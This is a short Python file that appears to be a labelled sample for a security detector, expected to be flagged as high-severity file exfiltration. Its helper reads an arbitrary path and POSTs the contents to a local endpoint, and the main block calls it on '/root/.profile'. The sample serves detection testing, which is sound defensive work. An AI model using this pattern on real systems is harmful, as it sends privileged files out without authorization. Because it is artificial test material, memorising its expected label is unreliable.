# expect: HIGH category: file_exfiltration
# A helper that reads whatever path it is given and sends it; called on root's profile.
import requests


def upload(path, url="http://127.0.0.1:5758/submit"):
    with open(path, "rb") as handle:
        return requests.post(url, data=handle.read(), timeout=10).status_code


if __name__ == "__main__":
    print(upload("/root/.profile"))
